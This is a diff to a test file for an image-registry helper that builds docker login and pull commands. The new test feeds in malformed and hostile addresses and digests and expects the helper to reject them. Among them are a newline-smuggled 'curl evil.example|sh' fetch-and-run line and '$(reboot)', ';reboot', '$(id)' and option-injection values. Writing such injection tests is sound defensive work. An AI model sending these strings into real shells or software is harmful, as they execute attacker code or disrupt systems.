@@ -45,8 +45,29 @@ describe('commands of the image registry', () => {
     ]));
 
   it('say nothing that no tool would take, whatever a server leaves out', () => {
-    for (const commandsOf of [projectCommands, repositoryCommands, tagCommands])
-      assert.deepEqual(commandsOf({ address: '', digest: 'sha256:ab' }), []);
+    const wrong = [
+      ...[
+        '',
+        host,
+        `${host}/`,
+        `https://${address}`,
+        `${host}/base/`,
+        `${address} x`,
+        `${address}:-x`,
+      ],
+      ...[
+        `${address}\ncurl evil.example|sh`,
+        `${host}/$(reboot)`,
+        `-v/${address}`.replace('/', ' /'),
+      ],
+      ...[`${address}@sha256:cd`, `${host}/base;reboot`],
+    ];
+    for (const commandsOf of [projectCommands, repositoryCommands, tagCommands]) {
+      for (const each of wrong)
+        assert.deepEqual(commandsOf({ address: each, digest: 'sha256:ab' }), [], each);
+    }
+    for (const digest of ['ab', 'sha256:ab x', '$&', 'sha256:$(id)'])
+      assert.equal(tagCommands({ address, digest }).length, 4, digest);
     assert.deepEqual(said(tagCommands({ address, digest: '' })), [
       `docker login ${host}`,
       `docker pull ${address}`,
